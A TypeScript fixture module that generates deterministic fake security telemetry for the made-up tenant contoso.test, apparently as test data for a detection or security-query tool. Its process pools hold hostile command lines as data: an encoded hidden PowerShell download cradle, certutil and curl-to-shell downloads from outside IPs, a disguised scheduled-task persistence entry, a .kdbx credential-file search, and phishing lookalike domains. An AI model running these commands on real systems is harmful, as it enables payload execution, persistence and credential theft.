// Fixed value pools for the fake tenant "contoso.test" and a seeded PRNG. Everything here
// is deterministic so query results are stable across runs (given the same `now`).
import { createHash } from 'node:crypto'

export type Rng = () => number

/** A PRNG for row `i` of a table: rows can be regenerated in any order. */
export function rngFor(tableSeed: number, i: number): Rng {
  let a = (tableSeed ^ Math.imul(i + 1, 0x9e3779b1)) >>> 0
  return () => {
    a = (a + 0x6d2b79f5) >>> 0
    let t = a
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

export const pick = <T>(r: Rng, items: readonly T[]): T => items[Math.floor(r() * items.length)]!
export const int = (r: Rng, lo: number, hi: number): number => lo + Math.floor(r() * (hi - lo + 1))
export function weighted<T>(r: Rng, items: ReadonlyArray<readonly [number, T]>): T {
  const total = items.reduce((s, [w]) => s + w, 0)
  let x = r() * total
  for (const [w, v] of items) if ((x -= w) < 0) return v
  return items[items.length - 1]![1]
}
export const hash = (s: string, alg = 'sha256'): string => createHash(alg).update(s).digest('hex')
export function guid(seed: string): string {
  const h = hash(seed)
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-a${h.slice(17, 20)}-${h.slice(20, 32)}`
}
export function guidFrom(r: Rng): string {
  const hex = () => Math.floor(r() * 16).toString(16)
  const part = (n: number) => Array.from({ length: n }, hex).join('')
  return `${part(8)}-${part(4)}-4${part(3)}-a${part(3)}-${part(12)}`
}

export const DOMAIN = 'contoso.test'
const SID_PREFIX = 'S-1-5-21-1004336348-1177238915-682003330'

export interface Account {
  name: string
  display: string
  upn: string
  sid: string
  objectId: string
}

export const accounts: Account[] = [
  ['alice', 'Alice Analyst'], ['bob.jones', 'Bob Jones'], ['carol.white', 'Carol White'],
  ['dave.miller', 'Dave Miller'], ['erin.chen', 'Erin Chen'], ['frank.lopez', 'Frank Lopez'],
  ['svc-backup', 'Backup service'], ['administrator', 'Administrator']
].map(([name, display], i) => ({
  name: name!,
  display: display!,
  upn: `${name}@${DOMAIN}`,
  sid: `${SID_PREFIX}-${1104 + i}`,
  objectId: guid(`account:${name}`)
}))

export interface Device {
  id: string
  name: string
  ip: string
  mac: string
  publicIp: string
  os: 'Windows11' | 'WindowsServer2022' | 'Linux'
  osVersion: string
  osBuild: number
  type: 'Workstation' | 'Server'
  user: Account
  internetFacing: boolean
}

export const devices: Device[] = [
  ['wks-fin-01', '10.20.1.11', 'Windows11', 1], ['wks-fin-02', '10.20.1.12', 'Windows11', 2],
  ['wks-hr-01', '10.20.2.21', 'Windows11', 3], ['wks-it-01', '10.20.3.31', 'Windows11', 4],
  ['wks-it-02', '10.20.3.32', 'Windows11', 0], ['wks-sales-01', '10.20.4.41', 'Windows11', 5],
  ['wks-sales-02', '192.168.10.52', 'Windows11', 2], ['wks-dev-01', '10.20.5.51', 'Windows11', 4],
  ['srv-dc-01', '10.20.0.10', 'WindowsServer2022', 7], ['srv-file-01', '10.20.0.25', 'WindowsServer2022', 6],
  ['srv-web-01', '172.16.5.20', 'Linux', 7], ['srv-sql-01', '10.20.0.30', 'WindowsServer2022', 6]
].map(([name, ip, os, user], i) => ({
  id: hash(`device:${name}`, 'sha1'),
  name: `${name}.${DOMAIN}`,
  ip: ip as string,
  mac: `00-15-5D-${hash(String(name)).slice(0, 6).toUpperCase().match(/../g)!.join('-')}`,
  publicIp: name === 'srv-web-01' ? '198.51.100.20' : `203.0.113.${10 + (i % 3)}`,
  os: os as Device['os'],
  osVersion: os === 'Linux' ? '22.04' : '10.0',
  osBuild: os === 'Windows11' ? 22631 : os === 'WindowsServer2022' ? 20348 : 0,
  type: String(name).startsWith('srv') ? 'Server' : 'Workstation',
  user: accounts[user as number]!,
  internetFacing: name === 'srv-web-01'
}))

export interface Proc {
  file: string
  folder: string
  company: string
  product: string
  commands: string[]
}

const sys32 = 'C:\\Windows\\System32\\'
export const processes: Record<string, Proc> = {
  'explorer.exe': { file: 'explorer.exe', folder: 'C:\\Windows\\', company: 'Microsoft Corporation', product: 'Microsoft® Windows® Operating System', commands: ['C:\\Windows\\Explorer.EXE'] },
  'svchost.exe': { file: 'svchost.exe', folder: sys32, company: 'Microsoft Corporation', product: 'Microsoft® Windows® Operating System', commands: ['svchost.exe -k netsvcs -p -s Schedule', 'svchost.exe -k NetworkService -p -s Dnscache', 'svchost.exe -k LocalServiceNetworkRestricted -p'] },
  'chrome.exe': { file: 'chrome.exe', folder: 'C:\\Program Files\\Google\\Chrome\\Application\\', company: 'Google LLC', product: 'Google Chrome', commands: ['"chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService', '"chrome.exe" https://contoso.sharepoint.com/sites/finance'] },
  'msedge.exe': { file: 'msedge.exe', folder: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\', company: 'Microsoft Corporation', product: 'Microsoft Edge', commands: ['"msedge.exe" --single-argument https://outlook.office365.com/mail/', '"msedge.exe" --type=renderer'] },
  'OUTLOOK.EXE': { file: 'OUTLOOK.EXE', folder: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\', company: 'Microsoft Corporation', product: 'Microsoft Outlook', commands: ['"OUTLOOK.EXE" /recycle'] },
  'ms-teams.exe': { file: 'ms-teams.exe', folder: 'C:\\Program Files\\WindowsApps\\MSTeams_24124.2315.2911.3357_x64__8wekyb3d8bbwe\\', company: 'Microsoft Corporation', product: 'Microsoft Teams', commands: ['"ms-teams.exe" msteams:system-initiated'] },
  'powershell.exe': {
    file: 'powershell.exe', folder: `${sys32}WindowsPowerShell\\v1.0\\`, company: 'Microsoft Corporation', product: 'Microsoft® Windows® Operating System',
    commands: [
      'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1',
      'powershell.exe Get-ChildItem -Path C:\\Users -Recurse -Include *.kdbx',
      'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA4ADUALgAyADIAMAAuADEAMAAxAC4AMQAvAGEAJwApAA==',
      'powershell.exe Invoke-WebRequest -Uri http://185.220.101.1/a.ps1 -OutFile $env:TEMP\\a.ps1'
    ]
  },
  'cmd.exe': { file: 'cmd.exe', folder: sys32, company: 'Microsoft Corporation', product: 'Microsoft® Windows® Operating System', commands: ['cmd.exe /c whoami /all', 'cmd.exe /c net group "Domain Admins" /domain', 'cmd.exe /c ipconfig /all', 'cmd.exe /c C:\\Scripts\\backup.bat'] },
  'certutil.exe': { file: 'certutil.exe', folder: sys32, company: 'Microsoft Corporation', product: 'Microsoft® Windows® Operating System', commands: ['certutil.exe -urlcache -split -f http://45.33.32.156/payload.bin C:\\Users\\Public\\p.bin'] },
  'rundll32.exe': { file: 'rundll32.exe', folder: sys32, company: 'Microsoft Corporation', product: 'Microsoft® Windows® Operating System', commands: ['rundll32.exe C:\\Users\\Public\\p.bin,DllRegisterServer', 'rundll32.exe shell32.dll,Control_RunDLL'] },
  'schtasks.exe': { file: 'schtasks.exe', folder: sys32, company: 'Microsoft Corporation', product: 'Microsoft® Windows® Operating System', commands: ['schtasks.exe /create /tn "OneDrive Sync" /tr C:\\Users\\Public\\p.bin /sc onlogon'] },
  'nslookup.exe': { file: 'nslookup.exe', folder: sys32, company: 'Microsoft Corporation', product: 'Microsoft® Windows® Operating System', commands: ['nslookup.exe dns.google', 'nslookup.exe -type=any contoso.test'] },
  'curl.exe': { file: 'curl.exe', folder: sys32, company: 'curl, https://curl.se/', product: 'The curl executable', commands: ['curl.exe -s https://one.one.one.one/cdn-cgi/trace'] },
  'sqlservr.exe': { file: 'sqlservr.exe', folder: 'C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\', company: 'Microsoft Corporation', product: 'Microsoft SQL Server', commands: ['"sqlservr.exe" -sMSSQLSERVER'] },
  bash: { file: 'bash', folder: '/usr/bin/', company: '', product: '', commands: ['bash -c "curl -s http://45.33.32.156/x.sh | sh"', 'bash /opt/deploy/rotate-logs.sh'] },
  nginx: { file: 'nginx', folder: '/usr/sbin/', company: '', product: '', commands: ['nginx: worker process'] },
  sshd: { file: 'sshd', folder: '/usr/sbin/', company: '', product: '', commands: ['sshd: root [priv]', '/usr/sbin/sshd -D'] }
}

/** [weight, child, parent] for process creation on Windows devices. */
export const windowsSpawns: ReadonlyArray<readonly [number, readonly [string, string]]> = [
  [30, ['svchost.exe', 'services.exe']], [18, ['chrome.exe', 'explorer.exe']], [14, ['msedge.exe', 'explorer.exe']],
  [8, ['OUTLOOK.EXE', 'explorer.exe']], [8, ['ms-teams.exe', 'explorer.exe']], [6, ['cmd.exe', 'explorer.exe']],
  [5, ['powershell.exe', 'explorer.exe']], [2, ['powershell.exe', 'OUTLOOK.EXE']], [1, ['certutil.exe', 'cmd.exe']],
  [1, ['rundll32.exe', 'powershell.exe']], [1, ['schtasks.exe', 'powershell.exe']], [2, ['nslookup.exe', 'cmd.exe']],
  [2, ['curl.exe', 'cmd.exe']]
]
export const linuxSpawns: ReadonlyArray<readonly [number, readonly [string, string]]> = [
  [6, ['nginx', 'nginx']], [3, ['bash', 'sshd']], [2, ['sshd', 'sshd']]
]

export interface Remote {
  ip: string
  url: string
  ports: number[]
  type: 'Public' | 'Private'
  procs: string[]
}

// The public addresses are the ones the Shodan fake knows, so enrichment finds hosts.
export const remotes: ReadonlyArray<readonly [number, Remote]> = [
  [14, { ip: '8.8.8.8', url: 'dns.google', ports: [53, 443], type: 'Public', procs: ['svchost.exe', 'nslookup.exe'] }],
  [10, { ip: '1.1.1.1', url: 'one.one.one.one', ports: [443, 53], type: 'Public', procs: ['chrome.exe', 'curl.exe'] }],
  [12, { ip: '104.16.0.1', url: 'cloudflare.com', ports: [443], type: 'Public', procs: ['chrome.exe', 'msedge.exe'] }],
  [14, { ip: '13.107.42.14', url: 'outlook.office365.com', ports: [443], type: 'Public', procs: ['OUTLOOK.EXE', 'msedge.exe'] }],
  [8, { ip: '52.113.194.132', url: 'teams.microsoft.com', ports: [443], type: 'Public', procs: ['ms-teams.exe'] }],
  [6, { ip: '140.82.112.3', url: 'github.com', ports: [443, 22], type: 'Public', procs: ['chrome.exe', 'powershell.exe'] }],
  [3, { ip: '45.33.32.156', url: 'scanme.nmap.org', ports: [80, 22, 443], type: 'Public', procs: ['certutil.exe', 'powershell.exe', 'bash'] }],
  [2, { ip: '185.220.101.1', url: '', ports: [443, 9001, 80], type: 'Public', procs: ['powershell.exe', 'rundll32.exe'] }],
  [12, { ip: '10.20.0.10', url: 'srv-dc-01.contoso.test', ports: [389, 88, 445, 53], type: 'Private', procs: ['svchost.exe', 'lsass.exe'] }],
  [8, { ip: '10.20.0.25', url: 'srv-file-01.contoso.test', ports: [445], type: 'Private', procs: ['explorer.exe', 'svchost.exe'] }],
  [4, { ip: '10.20.0.30', url: 'srv-sql-01.contoso.test', ports: [1433], type: 'Private', procs: ['sqlservr.exe', 'powershell.exe'] }],
  [3, { ip: '192.168.10.1', url: '', ports: [53], type: 'Private', procs: ['svchost.exe'] }]
]

export const files = [
  { name: 'Q3-invoice.pdf', folder: 'C:\\Users\\{user}\\Downloads\\', origin: 'https://contoso.sharepoint.com/sites/finance/Shared Documents/Q3-invoice.pdf' },
  { name: 'report.docx', folder: 'C:\\Users\\{user}\\Documents\\', origin: '' },
  { name: 'a.ps1', folder: 'C:\\Users\\{user}\\AppData\\Local\\Temp\\', origin: 'http://185.220.101.1/a.ps1' },
  { name: 'p.bin', folder: 'C:\\Users\\Public\\', origin: 'http://45.33.32.156/payload.bin' },
  { name: 'setup.exe', folder: 'C:\\Users\\{user}\\Downloads\\', origin: 'https://github.com/contoso/tools/releases/download/v1.2/setup.exe' },
  { name: 'budget.xlsx', folder: 'C:\\Users\\{user}\\OneDrive - Contoso\\', origin: '' },
  { name: 'notes.txt', folder: 'C:\\Users\\{user}\\Desktop\\', origin: '' }
] as const

export const phishSenders = ['billing@micros0ft-support.com', 'it-helpdesk@contoso-payroll.net', 'no-reply@docu-sign-secure.com']
export const goodSenders = ['newsletter@fabrikam.example', 'orders@northwindtraders.example', 'hr@contoso.test', 'noreply@github.com']
export const subjects = ['Invoice overdue - action required', 'Your password expires today', 'Q3 planning', 'Team lunch Friday', 'Shared document: budget.xlsx', 'Your order has shipped', '[GitHub] Security alert']
export const urls = [
  { url: 'https://micros0ft-support.com/login?user=', domain: 'micros0ft-support.com', bad: true },
  { url: 'http://45.33.32.156/invoice.html', domain: '45.33.32.156', bad: true },
  { url: 'https://contoso.sharepoint.com/sites/finance', domain: 'contoso.sharepoint.com', bad: false },
  { url: 'https://github.com/contoso/tools', domain: 'github.com', bad: false },
  { url: 'https://one.one.one.one/help', domain: 'one.one.one.one', bad: false }
]
export const userPublicIps = ['203.0.113.10', '203.0.113.11', '203.0.113.12', '198.51.100.77']
export const alertTitles = [
  { title: 'Suspicious PowerShell command line', category: 'Execution', technique: 'PowerShell (T1059.001)', source: 'Microsoft Defender for Endpoint', detection: 'EDR' },
  { title: 'Connection to a Tor exit node', category: 'CommandAndControl', technique: 'Proxy: Multi-hop Proxy (T1090.003)', source: 'Microsoft Defender for Endpoint', detection: 'EDR' },
  { title: 'Suspicious file downloaded with certutil', category: 'DefenseEvasion', technique: 'Ingress Tool Transfer (T1105)', source: 'Microsoft Defender for Endpoint', detection: 'Antivirus' },
  { title: 'Password spray', category: 'CredentialAccess', technique: 'Password Spraying (T1110.003)', source: 'Microsoft Defender for Identity', detection: 'Microsoft Defender for Identity' },
  { title: 'Email messages containing phish URLs removed after delivery', category: 'InitialAccess', technique: 'Phishing: Spearphishing Link (T1566.002)', source: 'Microsoft Defender for Office 365', detection: 'Microsoft Defender for Office 365' }
]
